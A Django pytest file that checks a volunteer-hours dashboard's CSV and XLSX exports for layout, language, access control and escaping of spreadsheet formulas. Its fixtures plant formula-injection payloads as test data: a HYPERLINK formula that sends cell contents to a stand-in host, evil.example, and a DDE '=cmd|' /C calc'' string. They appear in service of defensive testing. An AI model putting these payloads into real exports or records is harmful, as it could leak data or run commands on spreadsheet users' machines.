# ruff: noqa: F811  (fixtures take the fixtures imported below as arguments)
"""The figures' exports: the same question as the dashboard, every section's key figures then every table,
as CSV (BOM, semicolons) and XLSX (a sheet per section); refused questions show the page, never a file; no
personal data, and nothing a spreadsheet would run as a formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from tests.events.conftest import coordinator  # noqa: F401
from tests.reporting.test_dashboard import credit
from volunteers.models import Organisation, Region, User
from volunteers.reporting import figures
from volunteers.reporting.figures import Section, Table, Unit
from volunteers.reporting.forms import AREA_ERRORS
from volunteers.reporting.services.rollups import rollups_refresh

pytestmark = pytest.mark.django_db

YEAR_2025 = {"start": "2025-01", "end": "2025-12"}


@pytest.fixture
def book(volunteer_factory, almaty, astana, organisation, coordinator):
    """Verified hours, counted by hand: Almaty 4 (March 2025) + 2.5 (May 2025), Astana 3 (April 2025), by a
    volunteer whose name is a formula; Astana renamed to a formula as well."""
    aru = volunteer_factory()
    bolat = volunteer_factory()
    User.objects.filter(pk=bolat.pk).update(first_name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    credit(aru, 4, dt.date(2025, 3, 10), almaty, coordinator, organisation)
    credit(aru, "2.5", dt.date(2025, 5, 3), almaty, coordinator)
    credit(bolat, 3, dt.date(2025, 4, 20), astana, coordinator)
    Region.objects.filter(pk=astana.pk).update(name={"en": "=cmd", "kk": "=cmd", "ru": "=cmd"})
    rollups_refresh()


def export(client, fmt, language="en", **params):
    with translation.override(language):
        return client.get(f"/{language}/figures/export.{fmt}", params)


def csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel opens the Cyrillic right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def after(rows, title: str) -> list[list[str]]:
    """The rows of the block titled `title`, up to the next blank row."""
    start = rows.index([title]) + 1
    end = next((index for index in range(start, len(rows)) if not rows[index]), len(rows))
    return rows[start:end]


def test_the_csv_holds_the_key_figures_then_every_table(client, people, book):
    client.force_login(people["analyst_national"])
    response = export(client, "csv", **YEAR_2025)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="figures-kz-2025-01-2025-12.csv"'
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    rows = csv_rows(response)
    assert rows[0] == ["Figures", "Kazakhstan", "2025"]
    assert rows[1][0] == "Figures last brought up to date" and rows[1][1]
    key = after(rows, "Key figures")
    assert key[0] == ["Section", "Figure", "Value", "Unit"]
    assert ["Hours", "Verified hours", "9.5", "hours"] in key
    assert ["Economic value of volunteer time", "Economic value"] in [row[:2] for row in key[1:]]

    by_month = after(rows, "Hours: Verified hours by month")
    assert by_month[0] == ["Month", "Hours"]
    assert dict(by_month[1:]) == {
        "January 2025": "0", "February 2025": "0", "March 2025": "4", "April 2025": "3", "May 2025": "2.5",
        "June 2025": "0", "July 2025": "0", "August 2025": "0", "September 2025": "0", "October 2025": "0",
        "November 2025": "0", "December 2025": "0",
    }  # fmt: skip
    by_region = after(rows, "Hours: Verified hours by region")
    assert by_region[:3] == [["Region", "Hours"], ["Almaty", "6.5"], ["'=cmd", "3"]]
    assert by_region[3] == ["Hours are placed in the region where they were given, else the volunteer's own."]
    value = after(rows, "Economic value of volunteer time: Economic value by region and year")
    assert value[0] == ["Region and year", "Value, tenge", "Hours", "Hourly wage, tenge"]
    assert sorted(row[0] for row in value[1:3]) == ["'=cmd, 2025", "Almaty, 2025"]
    # Every table of every section is there, each under its title.
    with translation.override("en"):
        found = figures.sections(figures.FigureQuery.year(2025))
    for section in found:
        for table in section.tables:
            assert [f"{section.title}: {table.title}"] in rows
    # No person, and no cell a spreadsheet would run.
    text = response.content.decode("utf-8-sig")
    assert "HYPERLINK" not in text and "evil" not in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_csv_speaks_the_readers_language(client, people, book, almaty):
    client.force_login(people["analyst_almaty"])
    response = export(client, "csv", "ru", area=f"region:{almaty.pk}", start="2025-03", end="2025-05")
    assert response["Content-Disposition"] == 'attachment; filename="figures-KZ-75-2025-03-2025-05.csv"'
    rows = csv_rows(response)
    with translation.override("ru"):
        assert rows[0] == [translation.gettext("Figures"), "Алматы", "Март – Май 2025 г."]
        hours = translation.gettext("Verified hours")
    assert next(row for row in rows if len(row) > 2 and row[1] == hours)[2] == "6,5"  # the decimal comma


def test_the_xlsx_has_a_sheet_of_key_figures_then_one_a_section(client, people, book, organisation):
    client.force_login(people["analyst_national"])
    response = export(client, "xlsx", **YEAR_2025)
    assert response["Content-Disposition"] == 'attachment; filename="figures-kz-2025-01-2025-12.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[:4] == [
        "Key figures",
        "Volunteers",
        "Hours",
        "Economic value of volunteer tim",
    ]
    summary = list(workbook["Key figures"].iter_rows(values_only=True))
    assert summary[0][:3] == ("Figures", "Kazakhstan", "2025")
    assert summary[1][0] == "Figures last brought up to date"
    assert ("Hours", "Verified hours", 9.5, "hours") in summary
    assert workbook["Key figures"]["A1"].font.bold

    hours = list(workbook["Hours"].iter_rows(values_only=True))
    assert hours[0][0] == "Hours"
    start = hours.index(("Verified hours by month", None))
    assert hours[start + 1] == ("Month", "Hours")
    assert hours[start + 4] == ("March 2025", 4)
    assert hours[start + 6] == ("May 2025", 2.5)
    region = hours.index(("Verified hours by region", None))
    assert hours[region + 2 : region + 4] == [("Almaty", 6.5), ("'=cmd", 3)]
    # Numbers are numbers; no string a spreadsheet would run; no person.
    for sheet in workbook:
        for row in sheet.iter_rows(values_only=True):
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))
                assert "HYPERLINK" not in str(cell)


def test_an_organisations_export_names_it_safely(client, people, book, astana_ngo):
    Organisation.objects.filter(pk=astana_ngo.pk).update(name={"en": "=cmd|' /C calc'!A0"})
    client.force_login(people["analyst_national"])  # an organisation outside the list, asked by address
    response = export(client, "csv", area=f"organisation:{astana_ngo.pk}", **YEAR_2025)
    assert response["Content-Disposition"] == (
        f'attachment; filename="figures-organisation-{astana_ngo.pk}-2025-01-2025-12.csv"'
    )
    assert csv_rows(response)[0] == ["Figures", "'=cmd|' /C calc'!A0", "2025"]
    workbook = openpyxl.load_workbook(
        io.BytesIO(export(client, "xlsx", area=f"organisation:{astana_ngo.pk}", **YEAR_2025).content)
    )
    assert workbook["Key figures"]["B1"].value == "'=cmd|' /C calc'!A0"


def test_sheet_names_are_short_clean_and_unique(client, people, book, monkeypatch):
    title = "Volunteers: by [age] / by region? and more besides"

    def twin(query):
        table = Table("twin", "Twin", ("Label", "Count"), (("a", 1),), (Unit.COUNT,))
        return Section(key="twin", title=title, order=90, tables=(table,))

    def twin_again(query):
        return twin(query)

    monkeypatch.setitem(figures._providers, "tests.twin", (90, twin))
    monkeypatch.setitem(figures._providers, "tests.twin_again", (91, twin_again))
    client.force_login(people["analyst_national"])
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx", **YEAR_2025).content))
    names = workbook.sheetnames[-2:]
    assert names == ["Volunteers by age  by region an", "Volunteers by age  by regio (2)"]
    assert all(len(name) <= 31 for name in workbook.sheetnames)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_refused_question_shows_the_page_not_a_file(client, people, astana, fmt):
    client.force_login(people["analyst_almaty"])
    response = export(client, fmt, area=f"region:{astana.pk}", **YEAR_2025)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    assert response.context["sections"] is None
    with translation.override("en"):
        assert str(AREA_ERRORS["region"]) in response.content.decode()
    response = export(client, fmt, start="2025-05", end="2025-03")
    assert "Content-Disposition" not in response and response.context["form"].errors["end"]


def test_other_formats_and_other_people_get_nothing(client, people):
    client.force_login(people["analyst_national"])
    assert export(client, "pdf", **YEAR_2025).status_code == 404
    client.force_login(people["volunteer"])
    assert export(client, "csv", **YEAR_2025).status_code == 403
    client.logout()
    response = export(client, "csv", **YEAR_2025)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_export_equals_the_dashboard(client, people, book):
    """The file and the page read the same figures (the same cache)."""
    client.force_login(people["analyst_national"])
    with translation.override("en"):
        sections = client.get("/en/figures/", YEAR_2025).context["sections"]
    rows = csv_rows(export(client, "csv", **YEAR_2025))
    total = figures.find(sections, "hours_total").value
    assert total == Decimal("9.5")
    assert ["Hours", "Verified hours", "9.5", "hours"] in rows
